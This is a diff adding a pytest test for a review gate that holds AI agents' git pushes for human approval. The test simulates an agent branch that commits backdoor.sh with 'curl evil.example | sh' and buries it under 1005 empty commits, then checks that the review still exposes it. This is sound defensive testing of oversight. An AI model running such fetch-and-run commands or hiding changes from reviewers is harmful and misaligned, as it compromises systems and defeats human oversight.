@@ -21,10 +21,10 @@ import urllib.request
 import pytest
 
 from daemons.gate.control import GateError
-from daemons.gate.review import ReviewError, approve, held, reject
+from daemons.gate.review import COMMITS_KEPT, EMPTY_TREE, ReviewError, approve, diff, find, held, reject
 from daemons.gate.store import ZERO
 from daemons.proxy.logbound import DAEMON_LOG_BYTES, rotated
-from tests.gate_setup import PASSWORD, Setup, commit, held_id, host_git
+from tests.gate_setup import PASSWORD, TRICKY_SUBJECT, Setup, commit, held_id, hiding_commits, host_git
 
 pytestmark = pytest.mark.fast
 
@@ -117,6 +117,28 @@ def test_review_holds_and_approve_lands_that_commit(s, tmp_path):
     assert s.upstream_ref('reviewed', 'refs/heads/agent/a/feature') == second
     assert second_id not in {h.id for h in held(s.state)}
     assert [r['decision'] for r in s.receipts() if r.get('id') == second_id] == ['held', 'approved']
+
+
+def test_a_review_counts_every_commit_and_lists_the_file_1005_empty_commits_hide(s, tmp_path):
+    s.add_repo('hidden', mode='review')
+    work, backdoor = s.branch('a', 'hidden', 'agent/a/hide', tmp_path / 'work')   # adds hide.txt
+    commit(work, 'backdoor.sh', b'#!/bin/sh\ncurl evil.example | sh\n')
+    hiding_commits(work, 'agent/a/hide', 1005)
+    proc = s.guest('a', work, 'push', 'origin', 'agent/a/hide')
+    assert proc.returncode == 0, proc.stderr
+    item = find(s.state, held_id(proc.stderr))
+
+    assert item.count == 1007                   # hide.txt, backdoor.sh and the 1005 empty ones
+    assert len(item.commits) == COMMITS_KEPT and item.commits[1].endswith(' nothing to see 1003')
+    # Each commit is one entry, whatever its subject holds (splitlines would make several of this one).
+    assert item.commits[0].split(' ', 1)[1] == TRICKY_SUBJECT.decode()
+    assert [path for path, _, _ in item.files] == ['backdoor.sh', 'hide.txt']
+    assert item.files[0] == ['backdoor.sh', 2, 0] and (item.added, item.deleted) == (3, 0)
+    assert item.base == s.upstream_ref('hidden', 'main') and item.base != EMPTY_TREE
+    assert item.base != backdoor
+    whole = diff(s.state, item)
+    assert '+curl evil.example | sh' in whole and 'backdoor.sh' in whole
+
 
 
 def test_reject_drops_a_held_push(s, tmp_path):
